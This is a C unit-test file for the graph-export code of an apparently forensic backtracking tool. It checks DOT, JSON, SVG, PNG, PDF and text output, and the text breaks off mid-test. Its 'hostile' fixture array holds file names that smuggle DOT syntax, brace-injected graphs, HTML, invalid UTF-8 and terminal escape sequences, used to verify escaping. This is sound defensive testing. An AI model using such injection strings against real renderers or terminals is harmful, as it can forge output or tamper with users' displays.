/*
 * check_export.c - graph/export.c: DOT parses back with cgraph and keeps
 * the labels, hostile names survive every format, JSON matches the schema
 * of export.h, SVG/PNG/PDF come out of graphviz, text cannot be forged by a
 * file name, write errors are reported.
 *
 * Most cases build a small log with the writer, load it with the real
 * loader, and put a walk result together by hand (so the output is checked
 * against a result whose every node we know); the Sarmoria case goes
 * through the JSONL importer and the real backward walk.
 */
#include <check.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <graphviz/cgraph.h>
#include <jansson.h>

#include "../core/error.h"
#include "../graph/graph.h"
#include "../core/log.h"
#include "../graph/walk.h"
#include "../graph/export.h"
#include "../graph/filter.h"
#include "../capture/gen.h"
#include "testutil.h"

#define T0 1700000000000000000ull
#define SEC 1000000000ull

/* ---- fixtures --------------------------------------------------------- */

/*
 * The log: 1 process bash [100] (argv "bash -c x"); 2 file (8:42) under
 * `name`; 3 synthetic file /tmp/x; 4 endpoint; 5 filename /tmp/x;
 * events: 2 -read-> 1 at T0+1s, 4 -recv-> 1 at T0+2s, 1 -write-> 3 three
 * times at T0+3s..5s.
 */
static struct bt_graph *load_fixture(const char *name, size_t namelen)
{
	static const char argv[] = "bash\0-c\0x";
	struct bt_log_writer *w;
	struct bt_graph *g;
	const char *path = tu_path("fixture.btl");

	ck_assert_int_eq(bt_log_writer_open(&w, path, BT_LOGW_CREATE |
					    BT_LOGW_TRUNC), 0);
	ck_assert_int_eq(bt_log_append_process(w, 1, 100, T0, 1, 0), 0);
	ck_assert_int_eq(bt_log_append_label(w, 1, BT_LABEL_EXE, T0,
					     "/bin/bash", 9), 0);
	ck_assert_int_eq(bt_log_append_label(w, 1, BT_LABEL_ARGV, T0, argv,
					     sizeof(argv) - 1), 0);
	ck_assert_int_eq(bt_log_append_file(w, 2, 0, 8, 42), 0);
	ck_assert_int_eq(bt_log_append_label(w, 2, BT_LABEL_PATH, T0, name,
					     namelen), 0);
	ck_assert_int_eq(bt_log_append_file(w, 3, BT_FILEF_SYNTH, 0, 3), 0);
	ck_assert_int_eq(bt_log_append_label(w, 3, BT_LABEL_PATH, T0,
					     "/tmp/x", 6), 0);
	ck_assert_int_eq(bt_log_append_endpoint(w, 4, "203.0.113.9:4444",
						16), 0);
	ck_assert_int_eq(bt_log_append_filename(w, 5, "/tmp/x", 6), 0);
	ck_assert_int_eq(bt_log_append_event(w, BT_OP_READ, 0, 10,
					     T0 + 1 * SEC, 2, 1), 0);
	ck_assert_int_eq(bt_log_append_event(w, BT_OP_RECV, 0, 10,
					     T0 + 2 * SEC, 4, 1), 0);
	ck_assert_int_eq(bt_log_append_event(w, BT_OP_WRITE, 0, 10,
					     T0 + 3 * SEC, 1, 3), 0);
	ck_assert_int_eq(bt_log_append_event(w, BT_OP_WRITE, 0, 10,
					     T0 + 4 * SEC, 1, 3), 0);
	ck_assert_int_eq(bt_log_append_event(w, BT_OP_WRITE, 0, 10,
					     T0 + 5 * SEC, 1, 3), 0);
	ck_assert_int_eq(bt_log_writer_close(w), 0);
	ck_assert_msg(bt_graph_load(&g, path, NULL, NULL) == 0, "load: %s",
		      bt_error_msg());
	return g;
}

static struct bt_node nodes4[4];
static struct bt_edge edges3[3];

/* The backward result from /tmp/x, put together by hand. */
static void make_result(struct bt_result *r, const struct bt_graph *g)
{
	memset(r, 0, sizeof(*r));
	memset(nodes4, 0, sizeof(nodes4));
	r->g = g;
	r->dir = BT_BACKWARD;
	r->opts.gran = BT_GRAN_PAGE;
	r->opts.until = T0 + 5 * SEC;
	r->detection = 0;
	nodes4[0] = (struct bt_node){ .obj = 3, .kind = BT_OBJ_FILE,
		.flags = BT_NODE_DETECTION, .depth = 0,
		.threshold = T0 + 5 * SEC };
	nodes4[1] = (struct bt_node){ .obj = 1, .kind = BT_OBJ_PROCESS,
		.depth = 1, .threshold = T0 + 5 * SEC };
	nodes4[2] = (struct bt_node){ .obj = 2, .kind = BT_OBJ_FILE,
		.flags = BT_NODE_ENTRY, .depth = 2, .threshold = T0 + SEC };
	nodes4[3] = (struct bt_node){ .obj = 4, .kind = BT_OBJ_ENDPOINT,
		.flags = BT_NODE_ENTRY | BT_NODE_REMOTE, .depth = 2,
		.threshold = T0 + 2 * SEC };
	edges3[0] = (struct bt_edge){ 2, 1, BT_OP_READ, 1, T0 + SEC,
		T0 + SEC };
	edges3[1] = (struct bt_edge){ 3, 1, BT_OP_RECV, 1, T0 + 2 * SEC,
		T0 + 2 * SEC };
	edges3[2] = (struct bt_edge){ 1, 0, BT_OP_WRITE, 3, T0 + 3 * SEC,
		T0 + 5 * SEC };
	r->nodes = nodes4;
	r->nnodes = 4;
	r->edges = edges3;
	r->nedges = 3;
	r->examined = 5;
}

/* Export to memory; the caller frees. */
static char *export_mem(const struct bt_result *r, enum bt_format fmt,
			size_t *len)
{
	char *buf = NULL;
	size_t n = 0;
	FILE *f = open_memstream(&buf, &n);
	int err;

	ck_assert_ptr_nonnull(f);
	err = bt_export(r, fmt, f);
	ck_assert_msg(err == 0, "export: %s", bt_error_msg());
	ck_assert_int_eq(fclose(f), 0);
	if (len)
		*len = n;
	return buf;
}

/* Undo the display rule: "\\" -> '\', "\xNN" -> the byte. */
static char *unshow(const char *s, size_t *len)
{
	char *o = malloc(strlen(s) + 1);
	size_t n = 0;

	ck_assert_ptr_nonnull(o);
	while (*s) {
		if (s[0] == '\\' && s[1] == '\\') {
			o[n++] = '\\';
			s += 2;
		} else if (s[0] == '\\' && s[1] == 'x') {
			char hex[3] = { s[2], s[3], 0 };

			o[n++] = (char)strtoul(hex, NULL, 16);
			s += 4;
		} else {
			o[n++] = *s++;
		}
	}
	o[n] = '\0';
	*len = n;
	return o;
}

/* Undo graphviz's label escaping (the doubled backslashes). */
static char *undot(const char *s)
{
	char *o = malloc(strlen(s) + 1);
	size_t n = 0;

	ck_assert_ptr_nonnull(o);
	while (*s) {
		if (s[0] == '\\' && s[1] == '\\')
			s++;
		o[n++] = *s++;
	}
	o[n] = '\0';
	return o;
}

/* Whether s is valid UTF-8 without control characters (other than \n). */
static bool clean_utf8(const char *s, size_t n, bool allow_nl)
{
	const unsigned char *u = (const unsigned char *)s;
	size_t i = 0, k, j;

	while (i < n) {
		if (u[i] < 0x80) {
			if ((u[i] < 0x20 && !(allow_nl && u[i] == '\n')) ||
			    u[i] == 0x7f)
				return false;
			i++;
			continue;
		}
		k = u[i] >= 0xf0 ? 4 : u[i] >= 0xe0 ? 3 : u[i] >= 0xc2 ? 2 : 0;
		if (!k || i + k > n || u[i] > 0xf4)
			return false;
		for (j = 1; j < k; j++)
			if ((u[i + j] & 0xc0) != 0x80)
				return false;
		if (k == 2 && u[i] == 0xc2 && u[i + 1] < 0xa0)
			return false;  /* C1 control */
		i += k;
	}
	return true;
}

static Agnode_t *node_named(Agraph_t *g, const char *name)
{
	Agnode_t *n = agnode(g, (char *)name, 0);

	ck_assert_msg(n != NULL, "no node %s", name);
	return n;
}

static const char *attr(void *obj, const char *name)
{
	const char *v = agget(obj, (char *)name);

	return v ? v : "";
}

/* The result's nodes in a DOT graph (the legend's have no kind). */
static int result_nodes(Agraph_t *g)
{
	Agnode_t *n;
	int k = 0;

	for (n = agfstnode(g); n; n = agnxtnode(g, n))
		k += *attr(n, "kind") != '\0';
	return k;
}

/* Its drawn edges (not the legend's or the layout's invisible ones). */
static int result_edges(Agraph_t *g)
{
	Agnode_t *n;
	Agedge_t *e;
	int k = 0;

	for (n = agfstnode(g); n; n = agnxtnode(g, n))
		for (e = agfstout(g, n); e; e = agnxtout(g, e))
			k += strcmp(attr(e, "style"), "invis") != 0;
	return k;
}

/* ---- format names ----------------------------------------------------- */

START_TEST(test_format_names)
{
	enum bt_format f;

	ck_assert_int_eq(bt_format_parse(&f, "json"), 0);
	ck_assert_int_eq(f, BT_FMT_JSON);
	ck_assert_int_eq(bt_format_parse(&f, "pdf"), 0);
	ck_assert_int_eq(f, BT_FMT_PDF);
	ck_assert_int_eq(bt_format_parse(&f, "JSONX"), BT_EINVAL);
	ck_assert_int_eq(bt_format_parse(&f, ""), BT_EINVAL);
	ck_assert_int_eq(bt_format_from_path(&f, "out/graph.svg"), 0);
	ck_assert_int_eq(f, BT_FMT_SVG);
	ck_assert_int_eq(bt_format_from_path(&f, "G.PNG"), 0);
	ck_assert_int_eq(f, BT_FMT_PNG);
	ck_assert_int_eq(bt_format_from_path(&f, "a.gv"), 0);
	ck_assert_int_eq(f, BT_FMT_DOT);
	ck_assert_int_eq(bt_format_from_path(&f, "report.txt"), 0);
	ck_assert_int_eq(f, BT_FMT_TEXT);
	ck_assert_int_eq(bt_format_from_path(&f, "noext"), BT_EINVAL);
	ck_assert_int_eq(bt_format_from_path(&f, "dir.svg/file"), BT_EINVAL);
	ck_assert_int_eq(bt_format_from_path(&f, "x.xls"), BT_EINVAL);
}
END_TEST

/* ---- DOT -------------------------------------------------------------- */

START_TEST(test_dot_parses_back)
{
	struct bt_graph *g = load_fixture("/etc/passwd", 11);
	struct bt_result r;
	Agraph_t *ag;
	Agnode_t *n;
	Agedge_t *e;
	char *dot;
	int nwrite = 0;

	make_result(&r, g);
	dot = export_mem(&r, BT_FMT_DOT, NULL);
	ag = agmemread(dot);
	ck_assert_msg(ag != NULL, "DOT does not parse:\n%s", dot);
	ck_assert_int_eq(result_nodes(ag), 4);
	ck_assert_int_eq(result_edges(ag), 3);
	n = node_named(ag, "n0");
	ck_assert_str_eq(attr(n, "label"), "/tmp/x");
	ck_assert_str_eq(attr(n, "color"), "red");
	ck_assert_ptr_nonnull(strstr(attr(n, "style"), "bold"));
	ck_assert_str_eq(attr(n, "shape"), "ellipse");
	n = node_named(ag, "n1");
	ck_assert_str_eq(attr(n, "label"), "bash [100]");
	ck_assert_str_eq(attr(n, "shape"), "box");
	ck_assert_str_eq(attr(n, "argv"), "bash -c x");
	ck_assert_ptr_nonnull(strstr(attr(n, "tooltip"), "bash -c x"));
	ck_assert_ptr_nonnull(strstr(attr(n, "tooltip"), "uid 0"));
	ck_assert_ptr_null(strstr(attr(n, "style"), "filled"));
	n = node_named(ag, "n2");
	ck_assert_str_eq(attr(n, "label"), "/etc/passwd");
	ck_assert_str_eq(attr(n, "path"), "/etc/passwd");
	ck_assert_ptr_nonnull(strstr(attr(n, "tooltip"), "inode 8:42"));
	ck_assert_ptr_nonnull(strstr(attr(n, "style"), "filled"));
	n = node_named(ag, "n3");
	ck_assert_str_eq(attr(n, "label"), "203.0.113.9:4444");
	ck_assert_str_eq(attr(n, "shape"), "diamond");
	ck_assert_ptr_nonnull(strstr(attr(n, "style"), "filled"));

	/* The write edge n1 -> n0 carries "write ×3" and its first time
	 * as seconds after the first event of the result (the read, T0+1s);
	 * the absolute times are in its tooltip. */
	for (n = agfstnode(ag); n; n = agnxtnode(ag, n)) {
		for (e = agfstout(ag, n); e; e = agnxtout(ag, e)) {
			const char *lab = attr(e, "label"), *plus;

			if (strcmp(attr(e, "op"), "write"))
				continue;
			nwrite++;
			ck_assert_str_eq(agnameof(agtail(e)), "n1");
			ck_assert_str_eq(agnameof(aghead(e)), "n0");
			ck_assert_msg(!strncmp(lab, "write \xc3\x97" "3", 9),
				      "label '%s'", lab);
			plus = strchr(lab, '+');
			ck_assert_msg(plus && strtod(plus + 1, NULL) == 2.0,
				      "label '%s'", lab);
			ck_assert_ptr_null(strstr(lab, "2023-"));
			ck_assert_msg(strstr(attr(e, "tooltip"),
				      "2023-11-14T22:13:23Z") != NULL,
				      "tooltip '%s'", attr(e, "tooltip"));
			ck_assert_msg(strstr(attr(e, "tooltip"),
				      "2023-11-14T22:13:25Z") != NULL,
				      "tooltip '%s'", attr(e, "tooltip"));
		}
	}
	ck_assert_int_eq(nwrite, 1);
	agclose(ag);
	free(dot);
	bt_graph_free(g);
}
END_TEST

#define H(what, s) { what, s, sizeof(s) - 1 }
static const struct hostile {
	const char *what;
	const char *name;
	size_t len;
} hostile[] = {
	H("quote", "/tmp/a\"b\" -> evil [label=\"x"),
	H("newline", "/tmp/line1\nline2\r\n"),
	H("backslash", "/tmp/a\\nb\\N\\\\c\\"),
	H("invalid utf-8", "/tmp/\xff\xfe\xc3(\xed\xa0\x80\xe2\x82"),
	H("html", "<b>/tmp/&lt;x&gt;</b>&amp"),
	H("terminal escape", "/tmp/\033[2J\033]0;pwned\007\xc2\x9b" "1m"),
	H("braces", "/tmp/}; digraph x { a -> b"),
};

/* Each hostile name is a label DOT keeps and dot(1) accepts, and the
 * display rule gives the original bytes back. */
START_TEST(test_dot_hostile)
{
	const struct hostile *h = &hostile[_i];
	struct bt_graph *g = load_fixture(h->name, h->len);
	struct bt_result r;
	Agraph_t *ag;
	char *dot, *lab, *orig;
	size_t n, olen;
	char cmd[512];
	FILE *f;

	make_result(&r, g);
	dot = export_mem(&r, BT_FMT_DOT, &n);
	ag = agmemread(dot);
	ck_assert_msg(ag != NULL, "%s: DOT does not parse:\n%s", h->what,
		      dot);
	ck_assert_int_eq(result_nodes(ag), 4);
	ck_assert_int_eq(result_edges(ag), 3);
	/* The short label and the tooltip are clean text; the full name
	 * comes back from the path attribute. */
	lab = undot(attr(node_named(ag, "n2"), "label"));
	ck_assert_msg(clean_utf8(lab, strlen(lab), false),
		      "%s: label '%s' not clean", h->what, lab);
	free(lab);
	lab = undot(attr(node_named(ag, "n2"), "tooltip"));
	ck_assert_msg(clean_utf8(lab, strlen(lab), true),
		      "%s: tooltip '%s' not clean", h->what, lab);
	free(lab);
	lab = undot(attr(node_named(ag, "n2"), "path"));
	ck_assert_msg(clean_utf8(lab, strlen(lab), false),
		      "%s: path '%s' not clean", h->what, lab);
	orig = unshow(lab, &olen);
	ck_assert_uint_eq(olen, h->len);
	ck_assert_msg(!memcmp(orig, h->name, h->len), "%s: '%s'", h->what,
		      lab);
	free(orig);
	free(lab);
	agclose(ag);

	/* dot(1) itself accepts it. */
	if (access("/usr/bin/dot", X_OK) == 0) {
		ck_assert_int_eq(tu_write_file(tu_path("h.dot"), dot, n), 0);
		snprintf(cmd, sizeof(cmd), "dot -Tsvg '%s' -o '%s' 2>'%s'",
			 tu_path("h.dot"), tu_path("h.svg"), tu_path("h.err"));
		ck_assert_msg(system(cmd) == 0, "%s: dot -Tsvg failed: %s",
			      h->what, (char *)tu_read_file(tu_path("h.err"),
							    NULL));
		f = fopen(tu_path("h.svg"), "r");
		ck_assert_ptr_nonnull(f);
		fclose(f);
	}
	free(dot);
	bt_graph_free(g);
}
END_TEST

START_TEST(test_dot_long_name)
{
	size_t len = 10 * 1024, olen;
	char *name = malloc(len + 1), *dot, *lab, *orig;
	struct bt_graph *g;
	struct bt_result r;
	Agraph_t *ag;
	size_t i;

	ck_assert_ptr_nonnull(name);
	name[0] = '/';
	for (i = 1; i < len; i++)
		name[i] = "abc\"\\\n\xff/"[i % 8];
	name[len] = '\0';
	g = load_fixture(name, len);
	make_result(&r, g);
	dot = export_mem(&r, BT_FMT_DOT, NULL);
	ag = agmemread(dot);
	ck_assert_ptr_nonnull(ag);
	/* The label is short, the path whole. */
	lab = undot(attr(node_named(ag, "n2"), "label"));
	ck_assert_uint_lt(strlen(lab), 200);
	free(lab);
	lab = undot(attr(node_named(ag, "n2"), "path"));
	orig = unshow(lab, &olen);
	ck_assert_uint_eq(olen, len);
	ck_assert(!memcmp(orig, name, len));
	free(orig);
	free(lab);
	agclose(ag);
	free(dot);
	bt_graph_free(g);
	free(name);
}
END_TEST

/* ---- JSON ------------------------------------------------------------- */

static json_t *node_by_id(json_t *nodes, const char *id)
{
	size_t i;
	json_t *n;

	json_array_foreach(nodes, i, n)
		if (!strcmp(json_string_value(json_object_get(n, "id")), id))
			return n;
	ck_abort_msg("no node %s", id);
	return NULL;
}

START_TEST(test_json_schema)
{
	struct bt_graph *g = load_fixture("/etc/passwd", 11);
	struct bt_result r;
	json_error_t jerr;
	json_t *doc, *nodes, *edges, *n, *e, *argv;
	char *text;
	size_t len, i;

	make_result(&r, g);
	text = export_mem(&r, BT_FMT_JSON, &len);
	doc = json_loadb(text, len, 0, &jerr);
	ck_assert_msg(doc != NULL, "JSON: %s", jerr.text);
	ck_assert_str_eq(json_string_value(json_object_get(doc, "direction")),
			 "backward");
	ck_assert_str_eq(json_string_value(json_object_get(doc,
			 "granularity")), "page");
	ck_assert(json_is_null(json_object_get(doc, "since")));
	ck_assert_uint_eq(json_integer_value(json_object_get(doc, "until")),
			  T0 + 5 * SEC);
	ck_assert(json_is_false(json_object_get(doc, "truncated")));
	ck_assert(json_is_null(json_object_get(doc, "limit")));
	ck_assert_str_eq(json_string_value(json_object_get(doc, "detection")),
			 "n0");
	nodes = json_object_get(doc, "nodes");
	edges = json_object_get(doc, "edges");
	ck_assert_uint_eq(json_array_size(nodes), 4);
	ck_assert_uint_eq(json_array_size(edges), 3);
	/* Every node has the common keys. */
	json_array_foreach(nodes, i, n) {
		ck_assert(json_is_string(json_object_get(n, "id")));
		ck_assert(json_is_string(json_object_get(n, "kind")));
		ck_assert(json_is_string(json_object_get(n, "label")));
		ck_assert(json_is_boolean(json_object_get(n, "entry")));
		ck_assert(json_is_boolean(json_object_get(n, "detection")));
		ck_assert(json_is_integer(json_object_get(n, "threshold")));
		ck_assert(json_is_integer(json_object_get(n, "depth")));
	}
	n = node_by_id(nodes, "n0");
	ck_assert_str_eq(json_string_value(json_object_get(n, "kind")),
			 "file");
	ck_assert(json_is_true(json_object_get(n, "detection")));
	ck_assert(json_is_true(json_object_get(n, "synthetic")));
	ck_assert_ptr_null(json_object_get(n, "inode"));
	ck_assert_str_eq(json_string_value(json_object_get(n, "path")),
			 "/tmp/x");
	n = node_by_id(nodes, "n1");
	ck_assert_str_eq(json_string_value(json_object_get(n, "kind")),
			 "process");
	ck_assert_str_eq(json_string_value(json_object_get(n, "label")),
			 "bash [100]");
	ck_assert_int_eq(json_integer_value(json_object_get(n, "pid")), 100);
	ck_assert_uint_eq(json_integer_value(json_object_get(n, "start")), T0);
	ck_assert_int_eq(json_integer_value(json_object_get(n, "uid")), 0);
	ck_assert_str_eq(json_string_value(json_object_get(n, "exe")),
			 "/bin/bash");
	argv = json_object_get(n, "argv");
	ck_assert_uint_eq(json_array_size(argv), 3);
	ck_assert_str_eq(json_string_value(json_array_get(argv, 1)), "-c");
	ck_assert(json_is_false(json_object_get(n, "entry")));
	n = node_by_id(nodes, "n2");
	ck_assert(json_is_true(json_object_get(n, "entry")));
	ck_assert_int_eq(json_integer_value(json_object_get(n, "dev")), 8);
	ck_assert_int_eq(json_integer_value(json_object_get(n, "inode")), 42);
	ck_assert_uint_eq(json_array_size(json_object_get(n, "paths")), 1);
	ck_assert_int_eq(json_integer_value(json_object_get(n, "depth")), 2);
	n = node_by_id(nodes, "n3");
	ck_assert_str_eq(json_string_value(json_object_get(n, "kind")),
			 "endpoint");
	ck_assert_str_eq(json_string_value(json_object_get(n, "address")),
			 "203.0.113.9:4444");
	ck_assert(json_is_true(json_object_get(n, "entry")));

	e = json_array_get(edges, 2);
	ck_assert_str_eq(json_string_value(json_object_get(e, "from")), "n1");
	ck_assert_str_eq(json_string_value(json_object_get(e, "to")), "n0");
	ck_assert_str_eq(json_string_value(json_object_get(e, "op")), "write");
	ck_assert_int_eq(json_integer_value(json_object_get(e, "count")), 3);
	ck_assert_uint_eq(json_integer_value(json_object_get(e, "first")),
			  T0 + 3 * SEC);
	ck_assert_uint_eq(json_integer_value(json_object_get(e, "time")),
			  T0 + 3 * SEC);
	ck_assert_uint_eq(json_integer_value(json_object_get(e, "last")),
			  T0 + 5 * SEC);
	json_decref(doc);
	free(text);
	bt_graph_free(g);
}
END_TEST

/* Process memory edges (an injection through process_vm_writev, a read
 * of another's memory) are process -> process edges named by their op in
 * JSON, DOT and text. */
START_TEST(test_mem_ops)
{
	const char *path = tu_path("mem.btl");
	struct bt_graph *g = NULL;
	struct bt_result *r = NULL;
	struct bt_walk_opts o;
	json_error_t jerr;
	json_t *doc, *e;
	char *text;
	size_t len, i;
	uint32_t id;
	int mw = 0, mr = 0;

	ck_assert_int_eq(tu_log_from_jsonl(path,
		"{\"time\":1,\"op\":\"read\",\"pid\":3,\"path\":\"/s\"}\n"
		"{\"time\":2,\"op\":\"mem_write\",\"pid\":3,\"peer\":2}\n"
		"{\"time\":3,\"op\":\"mem_read\",\"pid\":4,\"peer\":2}\n"
		"{\"time\":4,\"op\":\"write\",\"pid\":4,\"path\":\"/l\"}\n"), 0);
	ck_assert_int_eq(bt_graph_load(&g, path, NULL, NULL), 0);
	ck_assert_int_eq(bt_graph_find_file(g, "/l", &id), 0);
	bt_walk_opts_init(&o);
	ck_assert_int_eq(bt_backtrack(&r, g, id, &o), 0);
	text = export_mem(r, BT_FMT_JSON, &len);
	doc = json_loadb(text, len, 0, &jerr);
	ck_assert_msg(doc != NULL, "JSON: %s", jerr.text);
	json_array_foreach(json_object_get(doc, "edges"), i, e) {
		const char *op = json_string_value(json_object_get(e, "op"));
		json_t *nodes = json_object_get(doc, "nodes");
		json_t *from = node_by_id(nodes, json_string_value(
						json_object_get(e, "from")));
		json_t *to = node_by_id(nodes, json_string_value(
					      json_object_get(e, "to")));
		int pp = !strcmp(json_string_value(json_object_get(from,
				 "kind")), "process") &&
			 !strcmp(json_string_value(json_object_get(to, "kind")),
				 "process");

		if (!strcmp(op, "mem_write")) {
			ck_assert(pp);
			ck_assert_int_eq(json_integer_value(json_object_get(
				from, "pid")), 3);
			mw++;
		} else if (!strcmp(op, "mem_read")) {
			ck_assert(pp);
			ck_assert_int_eq(json_integer_value(json_object_get(
				from, "pid")), 2);
			mr++;
		}
	}
	ck_assert_int_eq(mw, 1);
	ck_assert_int_eq(mr, 1);
	json_decref(doc);
	free(text);
	text = export_mem(r, BT_FMT_DOT, NULL);
	ck_assert_ptr_nonnull(strstr(text, "op=mem_write"));
	ck_assert_ptr_nonnull(strstr(text, "op=mem_read"));
	free(text);
	text = export_mem(r, BT_FMT_TEXT, NULL);
	ck_assert_ptr_nonnull(strstr(text, "mem_write"));
	ck_assert_ptr_nonnull(strstr(text, "mem_read"));
	free(text);
	bt_result_free(r);
	bt_graph_free(g);
}
END_TEST

/* A System V message queue is a channel named by its id in text
 * ("sysv-msg 65536", then its writer | reader), as a pty is by its
 * direction; a plain pipe stays "pipe". */
START_TEST(test_sysv_msg_label)
{
	const char *path = tu_path("msg.btl");
	struct bt_graph *g = NULL;
	struct bt_result *r = NULL;
	struct bt_walk_opts o;
	char *text;
	uint32_t id;

	ck_assert_int_eq(tu_log_from_jsonl(path,
		"{\"time\":1,\"op\":\"read\",\"pid\":3,\"path\":\"/s\"}\n"
		"{\"time\":2,\"op\":\"write\",\"pid\":3,"
		"\"path\":\"sysv-msg:[65536]\",\"kind\":\"pipe\","
		"\"inode\":4611686018427453440}\n"
		"{\"time\":3,\"op\":\"read\",\"pid\":4,"
		"\"path\":\"sysv-msg:[65536]\",\"kind\":\"pipe\","
		"\"inode\":4611686018427453440}\n"
		"{\"time\":4,\"op\":\"write\",\"pid\":4,\"path\":\"/l\"}\n"), 0);
	ck_assert_int_eq(bt_graph_load(&g, path, NULL, NULL), 0);
	ck_assert_int_eq(bt_graph_find_file(g, "/l", &id), 0);
	bt_walk_opts_init(&o);
	ck_assert_int_eq(bt_backtrack(&r, g, id, &o), 0);
	text = export_mem(r, BT_FMT_TEXT, NULL);
	ck_assert_msg(strstr(text, "sysv-msg 65536 ") != NULL, "%s", text);
	ck_assert(strstr(text, "pipe ") == NULL);
	free(text);
	bt_result_free(r);
	bt_graph_free(g);
}
END_TEST

START_TEST(test_json_hostile)
{
	const struct hostile *h = &hostile[_i];
	struct bt_graph *g = load_fixture(h->name, h->len);
	struct bt_result r;
	json_error_t jerr;
	json_t *doc, *n;
	const char *lab, *path;
	char *text, *orig;
	size_t len, olen;

	make_result(&r, g);
	text = export_mem(&r, BT_FMT_JSON, &len);
	/* Strict parse: jansson refuses invalid UTF-8. */
	doc = json_loadb(text, len, 0, &jerr);
	ck_assert_msg(doc != NULL, "%s: JSON: %s", h->what, jerr.text);
	n = node_by_id(json_object_get(doc, "nodes"), "n2");
	lab = json_string_value(json_object_get(n, "label"));
	path = json_string_value(json_object_get(n, "path"));
	ck_assert_str_eq(lab, path);
	ck_assert_msg(clean_utf8(lab, strlen(lab), false), "%s", h->what);
	orig = unshow(lab, &olen);
	ck_assert_uint_eq(olen, h->len);
	ck_assert(!memcmp(orig, h->name, h->len));
	free(orig);
	json_decref(doc);
	free(text);
	bt_graph_free(g);
}
END_TEST

START_TEST(test_json_truncated)
{
	struct bt_graph *g = load_fixture("/etc/passwd", 11);
	struct bt_result r;
	json_t *doc;
	char *text;
	size_t len;

	make_result(&r, g);
	r.truncated = true;
	snprintf(r.limit, sizeof(r.limit), "stopped at 4 nodes (--max-nodes)");
	text = export_mem(&r, BT_FMT_JSON, &len);
	doc = json_loadb(text, len, 0, NULL);
	ck_assert_ptr_nonnull(doc);
	ck_assert(json_is_true(json_object_get(doc, "truncated")));
	ck_assert_str_eq(json_string_value(json_object_get(doc, "limit")),
			 "stopped at 4 nodes (--max-nodes)");
	json_decref(doc);
	free(text);
	text = export_mem(&r, BT_FMT_TEXT, &len);
	ck_assert_ptr_nonnull(strstr(text, "stopped at 4 nodes"));
	free(text);
	bt_graph_free(g);
}
END_TEST

/* A lone detection point (nothing affected it): every format copes with
 * a result without edges. */
START_TEST(test_single_node)
{
	struct bt_graph *g = load_fixture("/etc/passwd", 11);
	enum bt_format fmts[] = { BT_FMT_TEXT, BT_FMT_DOT, BT_FMT_JSON,
				  BT_FMT_SVG };
	struct bt_result r;
	json_t *doc;
	Agraph_t *ag;
	char *out;
	size_t len, i;

	make_result(&r, g);
	r.nnodes = 1;
	r.nedges = 0;
	for (i = 0; i < sizeof(fmts) / sizeof(fmts[0]); i++) {
		out = export_mem(&r, fmts[i], &len);
		ck_assert_uint_gt(len, 0);
		free(out);
	}
	out = export_mem(&r, BT_FMT_JSON, &len);
	doc = json_loadb(out, len, 0, NULL);
	ck_assert_msg(doc != NULL, "%s", out);
	ck_assert_uint_eq(json_array_size(json_object_get(doc, "nodes")), 1);
	ck_assert_uint_eq(json_array_size(json_object_get(doc, "edges")), 0);
	json_decref(doc);
	free(out);
	out = export_mem(&r, BT_FMT_DOT, &len);
	ag = agmemread(out);
	ck_assert_ptr_nonnull(ag);
	ck_assert_int_eq(result_nodes(ag), 1);
	ck_assert_int_eq(result_edges(ag), 0);
	agclose(ag);
	free(out);
	bt_graph_free(g);
}
END_TEST

/* ---- rendered formats ------------------------------------------------- */

START_TEST(test_svg)
{
	struct bt_graph *g = load_fixture("/tmp/a<b>&c\"d", 14);
	struct bt_result r;
	char *svg;
	size_t len;

	make_result(&r, g);
	svg = export_mem(&r, BT_FMT_SVG, &len);
	ck_assert_msg(!strncmp(svg, "<?xml", 5) || !strncmp(svg, "<svg", 4),
		      "svg starts '%.20s'", svg);
	ck_assert_ptr_nonnull(strstr(svg, "</svg>"));
	ck_assert_ptr_nonnull(strstr(svg, "bash [100]"));
	ck_assert_ptr_nonnull(strstr(svg, "203.0.113.9:4444"));
	ck_assert_ptr_nonnull(strstr(svg, "/tmp/a&lt;b&gt;&amp;c&quot;d"));
	/* Well-formed XML, if python3 is there to say so. */
	if (system("python3 -c 'import xml.dom.minidom' 2>/dev/null") == 0) {
		char cmd[512];

		ck_assert_int_eq(tu_write_file(tu_path("g.svg"), svg, len), 0);
		snprintf(cmd, sizeof(cmd), "python3 -c 'import sys, "
			 "xml.dom.minidom as m; m.parse(sys.argv[1])' '%s'",
			 tu_path("g.svg"));
		ck_assert_msg(system(cmd) == 0, "svg is not well-formed XML");
	}
	free(svg);
	bt_graph_free(g);
}
END_TEST

START_TEST(test_png_pdf)
{
	struct bt_graph *g = load_fixture("/etc/passwd", 11);
	struct bt_result r;
	char *out;
	size_t len;

	make_result(&r, g);
	out = export_mem(&r, BT_FMT_PNG, &len);
	ck_assert_uint_gt(len, 8);
	ck_assert(!memcmp(out, "\x89PNG\r\n\x1a\n", 8));
	free(out);
	out = export_mem(&r, BT_FMT_PDF, &len);
	ck_assert_uint_gt(len, 5);
	ck_assert(!memcmp(out, "%PDF-", 5));
	free(out);
	bt_graph_free(g);
}
END_TEST

/* ---- text ------------------------------------------------------------- */

START_TEST(test_text)
{
	struct bt_graph *g = load_fixture("/etc/passwd", 11);
	struct bt_result r;
	char *text, *ep;
	size_t len;

	make_result(&r, g);
	text = export_mem(&r, BT_FMT_TEXT, &len);
	ck_assert_msg(strstr(text, "backtrack from /tmp/x") != NULL, "%s",
		      text);
	ck_assert_ptr_nonnull(strstr(text, "granularity page"));
	ck_assert_ptr_nonnull(strstr(text, "detection point"));
	ck_assert_ptr_nonnull(strstr(text, "2023-11-14T22:13:21Z"));
	ck_assert_ptr_nonnull(strstr(text, "write"));
	ep = strstr(text, "entry points (2)");
	ck_assert_msg(ep != NULL, "%s", text);
	ck_assert_ptr_nonnull(strstr(ep, "/etc/passwd"));
	ck_assert_ptr_nonnull(strstr(ep, "203.0.113.9:4444"));
	ck_assert_ptr_null(strstr(ep, "bash [100]"));
	free(text);
	bt_graph_free(g);
}
END_TEST

/* The text says what happened in the investigation's words: the command
 * as run, the role of each node, fixed-width offsets from the first event
 * with the absolute time once, above, and no send into an entry point
 * listed as its cause. */
START_TEST(test_text_words)
{
	struct bt_graph *g = load_fixture("/etc/passwd", 11);
	struct bt_edge e4[4];
	struct bt_result r;
	char *text, *body, *line, *save, *ep;
	size_t len;
	int col = -1, width = -1, nedge = 0;

	make_result(&r, g);
	/* bash also sent to the endpoint before it received from it. */
	memcpy(e4, edges3, sizeof(edges3));
